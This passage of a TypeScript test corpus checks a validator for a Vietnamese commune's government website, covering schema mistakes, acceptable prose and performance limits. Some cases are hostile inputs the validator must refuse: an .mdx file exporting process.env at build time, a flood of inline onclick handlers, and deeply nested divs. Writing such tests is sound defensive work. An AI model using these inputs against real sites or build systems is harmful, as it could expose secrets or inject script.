    edits: [replace(PROCEDURE, /^channels:\n( {2}.*\n)+/m, '')],
    expect: { outcome: 'accepted', file: PROCEDURE },
  },
  {
    ...schemaCase('missing-signer', 'a plan without its signer', PLAN, 'signer', replace(PLAN, /^signer:\n( {2}.*\n)+/m, ''), ['chưa có (bắt buộc)']),
    expect: {
      outcome: 'refused',
      file: PLAN,
      field: 'signer',
      says: ['chưa có (bắt buộc)'],
      cascades: [NEWS, EVENT, 'events/chuyen-muc-cchc-thang-2.md', 'events/chuyen-muc-cchc-thang-4.md'],
    },
  },
  schemaCase(
    'decision-as-text',
    'a commendation’s decision written as one line',
    CAMPAIGN,
    'decision',
    replace(CAMPAIGN, /^decision:\n( {2}.*\n)+/m, 'decision: 45/QĐ-UBND\n'),
    ['một nhóm trường con'],
  ),
  schemaCase('impossible-date', 'the 31st of February', NEWS, 'date', replace(NEWS, /^date: .*$/m, 'date: 31/02/2024'), ['"31/02/2024"', 'một ngày có thật']),
  schemaCase('date-as-words', 'a date in words', EVENT, 'date', replace(EVENT, /^date: .*$/m, 'date: ngày 24 tháng 1'), ['một ngày có thật']),
  schemaCase('amount-grouped', 'a fee of 50.000 (read as 50 by YAML)', PROCEDURE, 'fees.0.amount', replace(PROCEDURE, 'amount: 2000', 'amount: 50.000'), [
    '50.000',
    'viết 50000',
  ]),
  schemaCase('amount-words', 'a fee in words', PROCEDURE, 'fees.0.amount', replace(PROCEDURE, 'amount: 2000', 'amount: hai nghìn đồng'), []),
  schemaCase('unknown-topic', 'an unknown topic', NEWS, 'topics.0', replace(NEWS, '  - cai-cach-thu-tuc-hanh-chinh', '  - the-thao'), ['"the-thao"']),
  schemaCase('unknown-field', 'a misspelt field name', NEWS, 'tittle', replace(NEWS, /^author: /m, 'tittle: Bài\nauthor: '), ['không có trong mẫu']),
  schemaCase(
    'wrong-type-list',
    'topics as one line instead of a list',
    NEWS,
    'topics',
    replace(NEWS, /^topics:\n( {2}- .*\n)+/m, 'topics: cai-cach-thu-tuc-hanh-chinh\n'),
    ['một danh sách'],
  ),
  schemaCase('wrong-type-boolean', 'draft: "có" instead of true', NEWS, 'draft', insertAfter(NEWS, /^author: .*$/m, 'draft: có'), ['true (có) hoặc false (không)']),
  schemaCase(
    'wrong-type-count',
    'a count of originals written as text',
    PROCEDURE,
    'cases.0.documents.0.originals',
    replace(PROCEDURE, '        originals: 1\n', '        originals: một\n'),
    [],
  ),
  schemaCase('bad-procedure-code', 'a procedure code of the wrong shape', PROCEDURE, 'code', replace(PROCEDURE, 'code: "2.000815"', 'code: "2000815"'), ['1.001193']),
  schemaCase('duplicate-code', 'two procedures with one code', 'procedures/dang-ky-khai-sinh.md', 'code', replace(PROCEDURE, 'code: "2.000815"', 'code: "1.001193"'), [
    '1.001193',
    'chung-thuc-ban-sao-tu-ban-chinh.md',
  ]),
  schemaCase('dangling-task', 'an article counting toward a task that does not exist', NEWS, 'task', replace(NEWS, 'task: "2024/2"', 'task: "2024/99"'), [
    'không có nhiệm vụ 2024/99',
  ]),
  schemaCase('bad-task-ref', 'a task reference of the wrong shape', NEWS, 'task', replace(NEWS, 'task: "2024/2"', 'task: "nhiệm vụ 2"'), ['NĂM/SỐ']),
  schemaCase(
    'missing-alt',
    'a cover without alt text',
    'news/nop-ho-so-truc-tuyen-tai-bo-phan-mot-cua.md',
    'cover.alt',
    replace('news/nop-ho-so-truc-tuyen-tai-bo-phan-mot-cua.md', / {2}alt: >-\n( {4}.*\n)+/, ''),
    ['chưa có (bắt buộc)'],
  ),
  schemaCase(
    'site-bad-email',
    'an e-mail address without @',
    'site.yaml',
    'email',
    replace('site.yaml', 'email: ubnd.minhhoachauthanh@example.org', 'email: ubnd.minhhoachauthanh'),
    ['thư điện tử'],
  ),
  schemaCase('site-bad-kind', 'an unknown kind of commune', 'site.yaml', 'kind', replace('site.yaml', 'kind: xã', 'kind: làng'), ['"làng"']),
  schemaCase('site-no-hotline', 'no hotline at all', 'site.yaml', 'hotlines', replace('site.yaml', /^hotlines:\n( {2}.*\n)+/m, 'hotlines: []\n'), [
    'ít nhất một số đường dây nóng',
  ]),
  schemaCase(
    'site-url-not-url',
    'a site address without https://',
    'site.yaml',
    'url',
    replace('site.yaml', 'url: https://chauthanh-2024.example.org', 'url: chauthanh-2024.example.org'),
    ['https://'],
  ),
  schemaCase(
    'returned-before-received',
    'a late file returned before it was received',
    'late-disclosures/2024-quy-1.md',
    'cases.0.returned',
    replace('late-disclosures/2024-quy-1.md', 'returned: 2024-03-08', 'returned: 2024-03-01'),
    ['không sớm hơn ngày tiếp nhận'],
  ),
  schemaCase('unknown-index', 'an unknown index name', INDEX_RESULT, 'index', replace(INDEX_RESULT, 'index: PAR INDEX', 'index: PARI'), ['"PARI"']),
  {
    id: 'plan-year-twice',
    kind: 'mistake',
    area: 'schema',
    description: 'a second plan for 2024 in a subfolder',
    edits: [{ file: PLAN, copyTo: 'plans/ban-cu/2024.md' }],
    expect: { outcome: 'refused', file: 'plans/ban-cu/2024.md', field: 'year', says: ['plans/2024.md'] },
  },
  {
    id: 'mdx-file',
    kind: 'attack',
    area: 'schema',
    description: 'an .mdx file, which could run code at build time',
    edits: [{ file: 'news/corpus-mdx.mdx', write: '---\ntitle: x\n---\n\nexport const x = process.env;\n' }],
    expect: { outcome: 'refused', file: 'news/corpus-mdx.mdx', says: ['.mdx'] },
  },
  {
    id: 'upper-case-md',
    kind: 'mistake',
    area: 'schema',
    description: 'a Markdown file ending in .MD',
    edits: [{ file: NEWS, copyTo: 'news/BAI-VIET-MOI.MD' }],
    expect: { outcome: 'refused', file: 'news/BAI-VIET-MOI.MD', says: ['".MD"'] },
  },
  {
    id: 'bang-file-name',
    kind: 'mistake',
    area: 'schema',
    description: 'a file named !!!.md, which has no address',
    edits: [{ file: NEWS, copyTo: 'news/!!!.md' }],
    expect: { outcome: 'refused', file: 'news/!!!.md', says: ['"!!!.md"'] },
  },
  {
    id: 'built-in-address',
    kind: 'mistake',
    area: 'schema',
    description: 'a procedure whose address is the printable list’s',
    edits: [{ file: PROCEDURE, copyTo: 'procedures/ban-in.md' }, replace(PROCEDURE, 'code: "2.000815"', 'code: "2.000816"')],
    expect: { outcome: 'refused', file: 'procedures/ban-in.md', says: ['/thu-tuc-hanh-chinh/ban-in/'] },
  },
  {
    id: 'far-future-date',
    kind: 'mistake',
    area: 'schema',
    description: 'a document dated 2204 (a typo for 2024): a warning, still published',
    edits: [replace(DOCUMENT, 'date: 2024-01-10', 'date: 2204-01-10')],
    expect: { outcome: 'harmless', file: DOCUMENT, field: 'date' },
  },
  {
    id: 'future-news',
    kind: 'mistake',
    area: 'schema',
    description: 'news dated next month: a warning, still published',
    edits: [article('future-news', 'Tin ghi ngày tháng sau.', '', '2024-07-15')],
    expect: { outcome: 'harmless', file: articleFile('future-news'), field: 'date' },
  },
];

const honestTexts: CorpusCase[] = [
  honest('less-than-percent', '"< 5%" and "= 120" in prose', 'Tỷ lệ hồ sơ trễ hạn < 5%, nộp online = 120 hồ sơ.'),
  honest('comparisons', 'a < b > c, x<=y, <70 điểm', 'So sánh: a < b > c; x<=y; điểm <70 là yếu; 3 > 2.'),
  honest(
    'code-like',
    'code-like text in backticks and a fenced block',
    'Gõ `<ten-thu-tuc>` vào ô tìm kiếm, hoặc:\n\n```\n<script>chỉ là chữ</script>\nif (a < b) { x = "onerror=1" }\n```',
  ),
  honest('ampersands', 'ampersands and entities written out', 'Phòng Tư pháp & Hộ tịch; R&D; AT&T; viết &amp; để hiện dấu &.'),
  honest(
    'https-gov-link',
    'links to https government sites',
    'Nộp hồ sơ tại [Cổng Dịch vụ công quốc gia](https://dichvucong.gov.vn) hoặc <https://dichvucong.bentre.gov.vn>.',
  ),
  honest('http-gov-link', 'a link to an http-only government host', 'Xem [văn bản](http://vbpl.vn/TW/Pages/vbpq-toanvan.aspx?ItemID=123).'),
  honest('mailto-tel', 'mailto: and tel: links', 'Gửi thư tới [văn phòng](mailto:vanphong@example.gov.vn) hoặc gọi [0275 3 600 002](tel:02753600002).'),
  honest('relative-page-link', 'links to the site’s own pages', 'Xem [danh sách thủ tục](/thu-tuc-hanh-chinh/) và [tin tức](/tin-tuc/).'),
  honest('own-image', 'an image beside the article', '![Quầy một cửa](./images/nop-ho-so-truc-tuyen.jpg)'),
  honest('table', 'a table with aligned columns', '| Hồ sơ | Phí |\n|:--|--:|\n| Tờ khai | 0 đ |\n| Bản sao | 2.000 đ |'),
  honest('footnote', 'a footnote', 'Theo quy định[^1].\n\n[^1]: Nghị định 23/2015/NĐ-CP.'),
  honest(
    'long-paragraph',
    'a long Vietnamese paragraph',
    'Ủy ban nhân dân xã tổ chức tuyên truyền cải cách hành chính tới từng ấp, hướng dẫn người dân nộp hồ sơ trực tuyến, thanh toán phí qua tài khoản, nhận kết quả qua bưu điện. '.repeat(
      60,
    ),
  ),
  honest('percent-in-link', 'a stray % in a link to the site', 'Xem [tin](/tin-tuc/?q=100%).'),
  honest('emphasis-html', 'harmless inline HTML: <sub>, <kbd>, <br>', 'Công thức H<sub>2</sub>O; bấm <kbd>Ctrl</kbd>+<kbd>F</kbd>;<br>xuống dòng.'),
  honest('quotes-and-dashes', 'quotes, dashes and “smart” punctuation', '"Một cửa" – "một cửa liên thông" — và \'dịch vụ công\'... Xong!'),
  honest('angle-email', 'an e-mail address in angle brackets', 'Liên hệ <vanphong@example.gov.vn>.'),
  honest('heading-with-symbols', 'headings with symbols', '## Phí: 0 đ (< 1 USD) & lệ phí = 0\n\n### Câu hỏi: "onerror" là gì?'),
  honest('task-list', 'a task list', '- [x] Đã nộp hồ sơ\n- [ ] Chờ kết quả'),
  honest('html-comment', 'an HTML comment left by an editor', '<!-- ghi chú của người soạn -->\nNội dung chính.'),
  honest('heading-like-page-ids', 'headings whose ids would be those of the page (noi-dung, hop-tim-kiem)', '## Noi dung\n\nĐoạn một.\n\n## Hop tim kiem\n\nĐoạn hai.'),
];

const mb = 1024 * 1024;
const slow = (id: string, description: string, body: string, outcome: Expectation['outcome']): CorpusCase => ({
  id,
  kind: outcome === 'accepted' ? 'honest' : 'attack',
  area: 'performance',
  description,
  edits: [article(id, body)],
  expect: { outcome, file: articleFile(id), ...(outcome === 'refused' ? { field: BODY } : {}) },
});

const performance: CorpusCase[] = [
  slow('line-lt-a', 'a 1 MB line of "< a "', '< a '.repeat(mb / 4), 'accepted'),
  slow('line-lt', 'a 1 MB line of "<"', '<'.repeat(mb), 'accepted'),
  slow('line-link-open', 'a 1 MB line of "[a]("', '[a]('.repeat(mb / 4), 'accepted'),
  slow('nested-brackets', '1 MB of nested brackets', `${'['.repeat(mb / 2)}${']'.repeat(mb / 2)}`, 'accepted'),
  slow('nested-divs', '200 000 nested <div>s', '<div>'.repeat(200_000), 'refused'),
  slow('handlers-flood', '70 000 event handlers on one line', '<b onclick=x>'.repeat(70_000), 'refused'),
  slow(
    'body-5mb',
    'a 5 MB body of ordinary paragraphs',
    'Người dân nộp hồ sơ trực tuyến tại Cổng Dịch vụ công. '.repeat((5 * mb) / 60).replace(/(?:[^.]+\. ){20}/g, '$&\n\n'),
    'accepted',
  ),
];

export const CORPUS: readonly CorpusCase[] = [...markdown, ...urlFields, ...files, ...mediaFolder, ...yaml, ...encoding, ...schema, ...honestTexts, ...performance];
